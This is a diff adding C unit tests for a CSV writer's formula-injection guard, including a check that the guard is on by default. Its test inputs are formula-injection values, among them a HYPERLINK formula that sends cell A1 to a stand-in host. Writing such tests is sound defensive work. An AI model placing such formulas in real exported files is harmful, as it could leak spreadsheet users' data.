@@ -125,7 +125,42 @@ static const struct {
     {"abc", "abc\n"},
     {"a=b", "a=b\n"},
     {"a,b", "\"a,b\"\n"},
+    /* OWASP: TAB and CR start a formula too, and a spreadsheet trims the
+     * whitespace before = + - @ (issue 19, point 10) */
+    {"\t=1+1", "\"'\t=1+1\"\n"},
+    {"\r=1+1", "\"'\r=1+1\"\n"},
+    {"\t", "\"'\t\"\n"},
+    {"\tplain", "\"'\tplain\"\n"},
+    {"\t-3", "\"'\t-3\"\n"},
+    {" =1+1", "\"' =1+1\"\n"},
+    {"  @SUM(A1)", "\"'  @SUM(A1)\"\n"},
+    {"\n+cmd", "\"'\n+cmd\"\n"},
+    {" \t -x", "\"' \t -x\"\n"},
+    {" -3", "\" -3\"\n"},            /* a number once trimmed: only quoted for its space */
+    {"-1.5", "-1.5\n"},
+    {"-1.2.3", "\"'-1.2.3\"\n"},     /* two dots: not a number */
+    {"-1e5", "\"'-1e5\"\n"},
+    {"-3 ", "\"'-3 \"\n"},
+    {"=HYPERLINK(\"http://x/?\"&A1,\"go\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\"\n"},
 };
+
+/* The guard is on unless a writer turns it off: a new output file is safe
+ * to open in a spreadsheet without its author remembering the flag. */
+static void test_guard_on_by_default(void **state)
+{
+    fixture *f = *state;
+    p2e_csvw w;
+    p2e_err err = {{0}};
+    assert_int_equal(p2e_csvw_open(&w, f->dir, "out.csv", &err), P2E_OK);
+    p2e_csvw_cstr(&w, "=1+1");
+    p2e_csvw_cstr(&w, "-3");
+    p2e_csvw_end_row(&w);
+    assert_int_equal(p2e_csvw_commit(&w, &err), P2E_OK);
+    char *text = tu_read_file(f->path, NULL);
+    assert_non_null(text);
+    assert_string_equal(text, "\"'=1+1\",-3\n");
+    free(text);
+}
 
 /* Whole numbers in decimal, without snprintf. */
 static void test_ulong_field(void **state)
@@ -427,6 +462,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test_setup_teardown(test_quoting_table, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_guard_on_by_default, setup, teardown),
         cmocka_unit_test_setup_teardown(test_formula_guard_table, setup, teardown),
         cmocka_unit_test_setup_teardown(test_rows_and_record_ends, setup, teardown),
         cmocka_unit_test_setup_teardown(test_field_with_nul, setup, teardown),
